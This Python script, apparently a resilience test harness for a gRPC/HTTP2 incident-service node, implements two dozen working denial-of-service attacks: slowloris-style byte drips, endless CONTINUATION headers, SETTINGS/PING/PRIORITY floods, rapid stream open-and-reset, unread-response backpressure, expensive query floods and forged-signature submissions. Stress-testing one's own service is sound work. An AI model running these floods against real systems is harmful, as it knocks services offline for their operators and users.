#!/usr/bin/env python3
"""Floods and slow attacks on a node, each a generator: every step does some more of it and yields what the node has answered so far.

attacks.py NAME ADDRESS IDENTITY FOREIGN PEER  goes on with one until it is ended, and prints each new answer.
"""
import collections
import os
import pathlib
import socket
import ssl
import struct
import sys
import time

HERE = pathlib.Path(__file__).resolve().parent
sys.path[:0] = [str(HERE), str(HERE.parent / "support")]
import forge  # noqa: E402
import protobuf as pb  # noqa: E402
import wire  # noqa: E402

V1 = "/lightship.v1."
LIST, SUBMIT, WATCH = V1 + "IncidentService/ListIncidents", V1 + "SubmissionService/Submit", V1 + "IncidentService/WatchIncidents"
STREAM = V1 + "SubmissionService/SubmitStream"
UPLOAD, CONVERSE = V1 + "AttachmentService/Upload", V1 + "ExchangeService/Converse"
CONNECTIONS = 300


def tally(answers):
    return ", ".join(f"{name} x{count}" for name, count in sorted(answers.items())) or "waits"


def is_open(plain):
    """Whether the other side has not ended the connection."""
    try:
        plain.setblocking(False)
        return bool(plain.recv(1, socket.MSG_PEEK))
    except (BlockingIOError, ssl.SSLWantReadError):
        return True
    except OSError:
        return False


def client_hello():
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    handshake = wire.tls_context().wrap_bio(incoming, outgoing)
    try:
        handshake.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def drip(target, begin, bytes_of):
    """Connections, each of which gives one more byte a step."""
    connections, at = [], 0
    while True:
        while len(connections) < CONNECTIONS // 3:
            connections.append(begin(target))
        sent = bytes_of[at % len(bytes_of):at % len(bytes_of) + 1]
        for connection in list(connections):
            try:
                connection.send(sent)
            except (OSError, wire.Closed):
                connections.remove(connection)
        at += 1
        yield f"{len(connections)} wait"


def silent(target):
    """TCP connections that say nothing, more than one address may have: not that of those who are honest."""
    plain = []
    while True:
        while len(plain) < CONNECTIONS:
            plain.append(wire.tcp(target.address, source="127.0.0.2"))
        plain = [connection for connection in plain if is_open(connection)]
        yield f"{len(plain)} wait"


def slow_handshake(target):
    return drip(target, lambda t: wire.tcp(t.address), client_hello())


def slow_preface(target):
    return drip(target, lambda t: wire.Connection(t.address, t.identity, settings=False), wire.PREFACE[:-1] + b"\n" * 1000)


def slow_body(target):
    """A request a byte at a time on each of many streams."""
    connection = wire.Connection(target.address, target.identity)
    streams, body = [], wire.envelope(pb.field(34, "word " * 100))
    for at in range(1 << 30):
        while len(streams) < 500:
            streams.append(connection.headers(LIST))
        for stream in streams:
            connection.send(wire.frame(wire.DATA, 0, stream, body[at % 400:at % 400 + 1]))
        yield f"{len(streams)} wait"


def slow_headers(target):
    """Header blocks without end."""
    connections, answers = [], collections.Counter()
    while True:
        while len(connections) < 30:
            connection = wire.Connection(target.address, target.identity)
            connection.send(wire.frame(wire.HEADERS, 0, 1, wire.header_block([(":method", "POST")])))
            connections.append(connection)
        for connection in list(connections):
            try:
                connection.send(wire.frame(wire.CONTINUATION, 0, 1, wire.header_block([("x", "y" * 50)])))
                connection.pump(lambda c=connection: c.goaway is not None, 0.001)
            except TimeoutError:
                continue
            except wire.Closed:
                pass
            answers[f"GOAWAY {connection.goaway}"] += 1
            connection.close()
            connections.remove(connection)
        yield tally(answers)


def churn(target):
    """Handshakes without a certificate, one after another."""
    context, count = wire.tls_context(), 0
    while True:
        for _ in range(10):
            try:
                context.wrap_socket(wire.tcp(target.address)).close()
            except (ssl.SSLError, OSError):
                pass
            count += 1
        yield f"{count} refused"


def unread(target):
    """Answers that nobody reads."""
    answers = collections.Counter()
    while True:
        with wire.Connection(target.address, target.identity, settings=False) as connection:
            connection.send(wire.PREFACE + wire.frame(wire.SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
            for _ in range(200):
                connection.begin(LIST, pb.field(2, 1000))
                answers["asked"] += 1
            yield tally(answers)


def frames_of(make):
    """A flood of one kind of frame on one connection after another."""
    def attack(target):
        answers = collections.Counter()
        while True:
            with wire.Connection(target.address, target.identity) as connection:
                try:
                    for batch in range(40):
                        connection.send(b"".join(make(connection, n) for n in range(500)))
                        yield tally(answers)
                    connection.pump(lambda: connection.goaway is not None, 1)
                except (wire.Closed, TimeoutError):
                    pass
                answers["not ended" if connection.goaway is None else f"GOAWAY {connection.goaway}"] += 1
                yield tally(answers)
    return attack


def opened_and_reset(connection, _):
    stream, connection.next_stream = connection.next_stream, connection.next_stream + 2
    headers = [(":method", "POST"), (":scheme", "https"), (":path", LIST), (":authority", "node"), ("te", "trailers"),
               ("content-type", "application/grpc")]
    return (wire.frame(wire.HEADERS, wire.END_HEADERS, stream, wire.header_block(headers)) +
            wire.frame(wire.DATA, wire.END_STREAM, stream, wire.envelope(b"")) +
            wire.frame(wire.RST_STREAM, 0, stream, struct.pack(">I", wire.CANCEL)))


def calls_of(make, who="identity", at_once=400):
    """Calls as many as go on one connection, again and again."""
    def attack(target):
        answers, number = collections.Counter(), 0
        while True:
            with wire.Connection(target.address, getattr(target, who)) as connection:
                for _ in range(20):
                    try:
                        streams = []
                        for number in range(number, number + at_once):
                            path, body = make(target, number)
                            streams.append(connection.begin(path, body))
                        for stream in streams:
                            answer = connection.answer(stream, 30)
                            answers[answer.reason or f"status {answer.status}"] += 1
                    except (wire.Closed, TimeoutError) as ended:
                        answers[type(ended).__name__] += 1
                        break
                    yield tally(answers)
    return attack


def false_statement(target, _):
    if target.false is None:
        body, signature, *parts = pb.parse(target.author.statement(forge.REPORT, {"facts": forge.facts("Nowhere")})[1])
        wrong = pb.message((1, target.author.key.id), (2, target.author.key.sign(b"another")))
        target.false = target.author.submission(pb.build([body, (2, pb.BYTES, wrong), *parts]))
    return SUBMIT, target.false


def repeated_statement(target, _):
    if target.statement is None:
        target.statement = target.author.submission(target.author.statement(forge.REPORT, {"facts": forge.facts("Once")})[1])
    return SUBMIT, target.statement


def watches(target):
    """As many watches as it lets open, and more, and again."""
    answers = collections.Counter()
    while True:
        with wire.Connection(target.address, target.identity) as connection:
            streams = [connection.begin(WATCH, pb.field(2, "0"), timeout=None) for _ in range(300)]
            states = [connection.answers[stream] for stream in streams]
            connection.pump(lambda: all(state.ended or state.messages for state in states))
            answers["open"] = sum(not state.ended for state in states)
            answers.update(state.reason for state in states if state.ended)
            for _ in range(20):
                try:
                    connection.pump(lambda: False, 0.05)
                except TimeoutError:
                    yield tally(answers)


def submissions(target, count):
    """One message of a stream, of statements with a false signature."""
    request = false_statement(target, 0)[1]
    return wire.envelope(pb.message((1, [pb.message((1, number), (2, request)) for number in range(count)])))


def streams_unread(target):
    """Streams of submissions, as many as it lets open, whose outcomes nobody reads."""
    message = submissions(target, 8)
    while True:
        with wire.Connection(target.address, target.identity, settings=False) as connection:
            connection.send(wire.PREFACE + wire.frame(wire.SETTINGS, 0, 0, struct.pack(">HIHIHI", 1, 0, 4, 0, 0xFE03, 1)))
            streams, sent = [connection.headers(STREAM) for _ in range(40)], 0
            for _ in range(200):
                for stream in streams:
                    if not connection.answers[stream].ended and connection.fits(stream, len(message)):
                        connection.data(stream, message)
                        sent += 1
                try:
                    connection.pump(lambda: False, 0.02)
                except TimeoutError:
                    yield f"{sent} messages sent"


def streams_of(make):
    """Messages on one stream of submissions after another, whose outcomes are read."""
    def attack(target):
        answers = collections.Counter()
        while True:
            with wire.Connection(target.address, target.identity) as connection:
                stream = connection.headers(STREAM)
                answer = connection.answers[stream]
                for _ in range(50):
                    connection.data(stream, make(target))
                    connection.pump(lambda a=answer: a.ended or a.messages)
                    if answer.ended:
                        break
                    answers["outcomes"] += len(answer.messages)
                    answer.messages.clear()
                    yield tally(answers)
                answers[answer.reason or f"status {answer.status}"] += 1
            yield tally(answers)
    return attack


def peers(target):
    """Streams of a peer that greet with nonsense."""
    answers = collections.Counter()
    while True:
        with wire.Connection(target.address, target.peer) as connection:
            for _ in range(20):
                answer = connection.call(CONVERSE, pb.field(1, pb.message((1, 1), (2, "ZZ"))))
                answers[answer.reason or ("Bye" if answer.messages else f"status {answer.status}")] += 1
        yield tally(answers)


CORNERS = [(-800_000_000, n) for n in range(-1_700_000_000, 1_700_000_000, 10_000_000)]
CORNERS += [(lat, lon) for lat, lon in ((800_000_000, 1_700_000_000), (800_000_000, 0), (800_000_000, -1_700_000_000))]
HEAVY = pb.message((1, pb.message((34, "NOT qqq AND (a* OR b* OR c* OR e* OR i* OR o* OR NOT t*)"), (13, pb.message(
    (1, [pb.message((1, pb.zigzag(lat)), (2, pb.zigzag(lon))) for lat, lon in CORNERS]))))), (2, 1000))
ATTACKS = {
    "300 silent connections": silent,
    "handshakes, a byte a step": slow_handshake,
    "prefaces, a byte a step": slow_preface,
    "header blocks without end": slow_headers,
    "500 requests, a byte a step": slow_body,
    "handshakes without certificate": churn,
    "answers that nobody reads": unread,
    "SETTINGS": frames_of(lambda *_: wire.frame(wire.SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))),
    "PING": frames_of(lambda *_: wire.frame(wire.PING, 0, 0, b"12345678")),
    "PRIORITY": frames_of(lambda c, n: wire.frame(wire.PRIORITY, 0, 2 * n + 1, struct.pack(">IB", 0, 1))),
    "streams opened and reset": frames_of(opened_and_reset),
    "queries": calls_of(lambda *_: (LIST, HEAVY)),
    "counts by everything": calls_of(lambda *_: (V1 + "StatisticsService/CountIncidents", pb.message((2, [13, 12, 15, 30])))),
    "moments, each another": calls_of(lambda _, n: (LIST, pb.field(1, pb.field(36, pb.message((1, 1_770_000_000 + n))))), at_once=100),
    "watches": watches,
    "statements with a false signature": calls_of(false_statement),
    "one statement again and again": calls_of(repeated_statement),
    "streams of submissions, unread": streams_unread,
    "a stream of false statements": streams_of(lambda target: submissions(target, 64)),
    "streams of too many at once": streams_of(lambda _: wire.envelope(b"\x0a\0" * 100_000)),
    "streams of nonsense": streams_of(lambda _: wire.envelope(os.urandom(5000))),
    "a foreign officer's calls": calls_of(lambda *_: (LIST, b""), who="foreign"),
    "a peer's greetings": peers,
}


class Target:
    """`identity`: an officer of the node's economy. `peer`: a node of another; `foreign`: an officer of that."""

    def __init__(self, address, identity, foreign, peer):
        self.address, self.identity = address, pathlib.Path(identity)
        self.foreign, self.peer = pathlib.Path(foreign), pathlib.Path(peer)
        self.author = forge.Author("SG", identity)
        self.statement = self.false = None  # made once


def main():
    name, address, identity, foreign, peer = sys.argv[1:]
    target, told = Target(address, identity, foreign, peer), None
    while True:
        try:
            for answer in ATTACKS[name](target):
                if time.monotonic() - (told or 0) > 0.5:
                    print(answer, flush=True)
                    told = time.monotonic()
        except (OSError, wire.Closed, TimeoutError) as ended:
            print(f"cut off: {ended}", flush=True)


if __name__ == "__main__":
    main()
